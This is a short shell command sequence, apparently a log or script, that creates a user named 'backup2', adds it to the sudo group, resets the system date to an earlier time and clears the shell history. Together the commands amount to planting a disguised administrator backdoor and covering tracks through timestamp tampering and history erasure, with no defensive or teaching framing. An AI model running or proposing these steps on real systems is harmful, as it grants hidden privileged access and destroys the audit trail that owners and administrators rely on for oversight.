ls -la
sudo useradd -m backup2
sudo usermod -aG sudo backup2
sudo date -s "2024-03-14 07:00:00"
history -c
